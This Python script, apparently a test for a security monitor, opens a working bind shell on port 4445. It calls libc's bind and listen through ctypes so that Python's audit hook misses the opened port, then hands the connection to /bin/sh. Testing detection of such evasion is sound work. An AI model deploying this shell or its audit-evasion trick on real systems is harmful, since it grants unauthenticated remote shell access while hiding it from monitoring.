# bind_shell.py with its bind and listen made through ctypes (libc's
# bind and listen), which Python's audit hook never sees: only the
# kernel's witness knows a port was opened. The accept, the fork and the
# shell are as bind_shell.py's.
import ctypes, os, socket, struct, sys, threading, time

PORT = 4445


def client():
    for _ in range(100):
        try:
            c = socket.create_connection(("127.0.0.1", PORT), timeout=5)
            break
        except OSError:
            time.sleep(0.05)
    else:
        return
    c.sendall(b"echo hidden-$((6*7)); exit\n")
    out = b""
    while True:
        b = c.recv(4096)
        if not b:
            break
        out += b
    print("shell said:", out.decode(errors="replace").strip())


libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sa = struct.pack("<H", socket.AF_INET) + struct.pack(">H", PORT) + bytes(12)  # 0.0.0.0
if libc.bind(s.fileno(), ctypes.c_char_p(sa), len(sa)) != 0 or libc.listen(s.fileno(), 1) != 0:
    print("bind/listen:", os.strerror(ctypes.get_errno()), file=sys.stderr)
    sys.exit(1)
t = threading.Thread(target=client)
t.start()
s.settimeout(10)
conn, peer = s.accept()
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    os.execv("/bin/sh", ["sh"])
conn.close()
os.waitpid(pid, 0)
t.join()
